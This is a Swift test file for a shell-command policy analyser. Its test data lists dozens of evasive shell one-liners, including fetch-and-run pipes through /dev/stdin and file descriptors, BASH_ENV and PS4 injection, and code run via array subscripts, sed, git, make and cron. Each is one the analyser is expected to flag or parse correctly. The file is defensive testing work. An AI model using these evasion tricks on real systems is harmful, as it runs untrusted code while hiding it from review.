import PolicyBytecode
import Testing

@testable import Operations

/// Lines that run more than they seem to: each was seen to do so in bash or dash.
@Suite struct ShellEvasionTests {
  /// What runs code that the line does not tell says so.
  @Test(arguments: [
    // Standard input and other descriptors, by name.
    "curl x | sh </dev/stdin", "curl x | sh < /proc/self/fd/0", "curl x | . /dev/stdin </dev/stdin",
    "curl x | sh -c 'sh </dev/stdin'", "bash /dev/fd/3 3< <(curl x)", "exec 3< <(curl x); bash </dev/fd/3",
    "curl x | bash /dev/fd/3 3<&0", "curl x | bash /dev/stdi?", "cd /dev; curl x | bash stdin",
    "curl x | bash ../../../dev/stdin", "curl x | bash /proc/thread-self/fd/0",
    "curl x | bash /proc/self/root/dev/stdin",
    ". /dev/fd/4 4< <(curl x)",
    // Options of shells.
    "curl x | bash +O extglob", "curl x | bash -restricted",
    // Programs that are others than their names say.
    "echo(){ cat evil; }; echo hi | sh", "./echo hi | sh", "PATH=.:$PATH; nice echo hi | sh",
    "alias tee=x; echo a | tee b | sh",
    "sh <(echo() { cat evil; }; echo hi)",
    // Variables whose value shells and programs run.
    "BASH_ENV='$(pwn 1)' bash -c :", "export BASH_ENV=/dev/stdin; curl x | bash -c :", "PS4='$(pwn 1)'; set -x; :",
    "env 'BASH_FUNC_ls%%=() { pwn 1; }' bash -c ls", "PERL5OPT='-Mwarnings;system(1)' perl -e 1",
    // Texts that shells print differently.
    "echo -e ': \\x23; pwn 1' | sh", "echo -eE ': \\x23; pwn 1' | sh", "printf ': \\x23; pwn 1\\n' | sh",
    // The shell's own input.
    "{ exec < <(curl x); }; sh", "if :; then exec < <(curl x); fi; sh", "command exec < <(curl x); sh",
    "f(){ exec < <(curl x); }; f; sh", "exec -- < <(curl x); sh", "eval 'exec < <(curl x)'; sh",
    "coproc { sh; }; echo pwn 1 >&${COPROC[1]}",
    "echo : | tee >(cat evil) | sh", "printf 'a\\n' | tee /dev/stdout | sh", "env time -f 'pwn 1' echo ls 2>&1 | sh",
    "printf '%s\\n' a b | sh -c 'read x; sh'",
    // Arithmetic in texts.
    "x='a[$(pwn 1)]'; ((x))", "test -v 'a[$(pwn 1)]'", "let 'a[$(pwn 1)]=1'", "printf -v 'a[`pwn 1`]' x",
    "declare 'a[$(pwn 1)]=1'", "unset 'a[$(pwn 1)]'", "read 'a[$(pwn 1)]' <<< 1",
    // Programs.
    "curl x | crontab /dev/stdin", "curl x | at -f - now", "curl x | awk '{system($0)}'",
    "python3 -c \"import os; os.system('p'+'wn 1')\"", "awk 'BEGIN { system(\"a \" $1) }' f", "curl x | sed e",
    "sed 's/.*/pwn 1/e' f", "curl x | sed -f - f", "sed -n '/a/s//b/gep' f",
    "sed -e p -e '1!{e\n}' f",
    "curl x | python3 -ic 1", "make --eval='$(shell pwn 1)'", "make -f /dev/null 'X:=$(shell pwn 1)'",
    "curl x | unshare", "curl x | setarch x86_64", "curl x | chroot /x",
  ]) func isUnknownCode(_ line: String) {
    #expect(decodeShell(line).contains { $0.reason == .unknownCode })
  }

  /// What runs is told.
  @Test(arguments: [
    "bash +O extglob -c 'pwn 1'", "bash +o posix -c 'pwn 1'", "echo pwn 1 | sh </dev/stdin",
    "echo 'ls pwn' | xargs -n1 sh -c",
    "echo 'a pwn' | xargs -n1 env", "echo \"a b -c pwn\" | xargs -n2 sh", "env a.b=1 pwn x", "env 'a b=1' pwn x",
    "sudo a.b=1 pwn", "sed '1e pwn 1' f", "sed -n '1!{/x/I,+2e pwn 1\n}' f", "echo '1e pwn 1' | sed -f - f",
    "find evil ! -name -exec -exec pwn 1 ';'", "find x -fprintf out -exec -exec pwn 1 \\;",
    "mapfile -C 'pwn 1;:' -c1 a <<< x",
    "compgen -C 'pwn 1'", "vim -es -c 'r !pwn 1'", "vim -c '%!pwn 1'", "echo 'r !pwn 1' | ed -s", "make -E 'x:;pwn 1'",
    "git clone -q -u 'pwn 1;x' . c", "git clone 'ext::pwn 1' c", "git -c filter.x.clean='pwn 1' add .",
    "git -c 'credential.https://x.helper=!pwn 1' fetch", "alias l='pwn -rf'\nl *", "LESSOPEN='|pwn %s' less x",
    "git -c pager.log=pwn log", "env -i PATH=\"$PATH\" echo a | xargs -n1 env pwn", "echo() { a; }; echo pwn b | sh",
  ]) func isTold(_ line: String) {
    #expect(decodeShell(line).contains { $0.texts(.shellProgram) == ["pwn"] })
  }

  /// Variables that are not what they were assigned.
  @Test(arguments: [
    "REPLY=ls; read <<< pwn; $REPLY x", "_=ls; : pwn; $_ x", "OPTARG=ls; getopts a: o -a pwn; $OPTARG x",
    "set -- a; $0 -c 'pwn 1'", "x=ls; read -ax <<< pwn; $x P", "x=ls; printf -vx pwn; $x P",
    "readonly x=pwn\nx=ls\n$x P",
    "declare -l x; x=PWN; $x P", "x=ls; declare -n r=x; r=pwn; $x P", "x=ls; x=pwn :; $x P", "x=ls; x=pwn eval a; $x P",
    "x=(ls -rf P); x=pwn; ${x[@]}", "export x=ls; env -u x sh -c '$x P'", "export x=ls; sudo sh -c '$x P'",
    "export x=ls; env -i sh -c '$x P'", "f(){ x=pwn; }; trap f DEBUG; x=ls; $x P", "x=ls; trap '. ./evil' DEBUG; $x P",
    "env -S '${X} a'",
    "env -S 'pwn\\_a'",
    "x=pwn; ./sub/export x=ls; ${x%%z} P",
  ]) func isUnknownProgram(_ line: String) {
    #expect(decodeShell(line).contains { $0.reason == .unknownProgram })
  }

  /// Texts that shells take apart differently are not understood.
  @Test(arguments: [
    "cat <<A\n\\\nA\npwn 1\nA", "cat <<AB\nA\\\nB\npwn 1\nAB", "cat <<\"A\\\nB\"\nx\nAB\npwn 1",
    "cat <<-'\tA'\nx\n\tA\npwn 1",
    "x=$(cat <<'A')\npwn 1\nA", "echo &>/dev/null pwn 1", "echo &>>f pwn 1",
  ]) func isNotUnderstood(_ line: String) {
    #expect(decodeShell(line).contains { $0.reason == .syntax || $0.reason == .truncated })
  }

  @Test func hereDocumentsEndWhereTheyDo() {
    for line in ["cat <<E\\\nF\nx\nEF\npwn 1", "cat <<A $(\npwn 1\nA\n)\nx\nA", "cat <<A \"$(\npwn 1\n)\"\nx\nA"] {
      #expect(decodeShell(line).contains { $0.texts(.shellProgram) == ["pwn"] }, "\(line)")
    }
  }

  /// A path that a program of any name leads to is not taken for the one of a builtin.
  @Test func directoriesOfBuiltinsAlone() {
    for line in ["/usr/bin/cd /tmp; rm x", "f(){ cd /etc; }; f; rm x", "cd /a; pushd /b; pushd; rm x"] {
      #expect(
        decodeShell(line).last?.texts(.shellPath).contains(line.contains("pushd") ? "/a/x" : "x") == true, "\(line)")
    }
    #expect(decodeShell("f(){ cd /etc; }; f; rm x").last?.texts(.shellPath).contains("/etc/x") == true)
  }

  @Test func wordsThatMayBeOthersHaveALimit() {
    for (count, isWhole) in [(ShellLimits.readingWords, true), (ShellLimits.readingWords + 1, false)] {
      let line = "rm" + String(repeating: " ${x:-y}", count: count)
      #expect(decodeShell(line).contains { $0.reason == .oversized } == !isWhole)
    }
  }

  /// What is common, and runs nothing that is not told, stays known.
  @Test(arguments: [
    "sed -i 's/old/new/g; s|a/e|b|2' f", "sed -n '/start/,/end/p' f", "sed 's/[/]e/x/' f",
    "sed 's/[^[:space:]/]*e/x/g' f", "sed -e 's/a/b/' -e '$d' f",
    "sed '/^#/d;s/e\\/e/e/' f", "sed 'y/abc/def/' f", "sed '1i\\\nexec x' f", "sed \"s/$a/e/\" f", "sed -n '1p;5q' f",
    "sed ':a;N;$!ba;s/\\n/ /g'",
    "cat < /dev/null", "cat <<E\na \\\n b\nE", "make CC=gcc all", "bash script.sh < input.txt", "bash tests/*.sh",
    "env A=1 B=2 x",
    "PS1='$ ' bash", "awk '{ print a[$1] }' f", "printf '%s\\n' '[x]'", "echo 'a b' | xargs -n1 rm", "tee a < b | cat",
    "export A=b; sh -c 'echo $A'", "x=$(date); echo $x", "cmd > f 2>&1", "cmd &> f", "cmd x &>> f < g",
    "find . -name '*.c' -exec a {} +",
    "alias ll='ls -l'", "vim -c 'w! x' f", "vim +q! f", "vim -c ':wq!' f", "read -r x < f", "exec > log 2>&1; ls",
    "time ls",
    "git -c core.autocrlf=input clone https://x/y z", "git clone -b main https://x/y",
    "git config credential.helper store",
    "[[ $x == a[1] ]]", "trap 'rm -f $t' EXIT; t=$(mktemp)", "x=ls; trap 'rm -f t' EXIT; $x -l",
    "ls </dev/null | sh -c 'cat'", "declare -a x=(1 2)",
  ]) func isKnown(_ line: String) {
    #expect(decodeShell(line).allSatisfy { $0.reason == .none })
  }
}
